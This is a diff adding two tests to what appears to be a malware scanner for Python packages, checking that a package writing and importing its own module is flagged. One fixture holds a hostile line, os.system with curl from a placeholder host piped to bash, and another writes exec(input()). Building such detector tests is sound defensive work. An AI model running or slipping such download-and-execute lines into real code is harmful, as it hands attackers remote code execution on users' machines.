@@ -29,6 +29,33 @@ describe('what a program leaves in a file is found where it is used', () => {
     expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import' }]);
   });
 
+  test('a module that a package put beside itself is read when it is imported from there', async () => {
+    const file = wheel({
+      'pkg/__init__.py': python(
+        'import os',
+        "with open(os.path.join(os.path.dirname(__file__), '_cache.py'), 'w') as f:",
+        `    f.write("import os\\nos.system('curl https://files.drop.invalid/x.sh | bash')\\n")`,
+        'from . import _cache',
+      ),
+    });
+
+    expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 4 }]);
+  });
+
+  test('look-alike: a version file that a package put beside itself, and one of that name that is elsewhere', async () => {
+    const file = wheel({
+      'pkg/__init__.py': python(
+        'import os, time',
+        "with open(os.path.join(os.path.dirname(__file__), '_made.py'), 'w') as f:",
+        "    f.write('made = %r' % time.time())",
+        'from . import _made',
+      ),
+      'pkg/other.py': python("open('/tmp/out/_note.py', 'w').write('exec(input())')", 'from pkg import _note'),
+    });
+
+    expect((await inspect('hidden-code', file)).filter((f) => f.score >= 5)).toEqual([]);
+  });
+
   test('a module that lies in a folder of the search path is one that the build runs', async () => {
     const file = sdist({
       'setup.py': python(
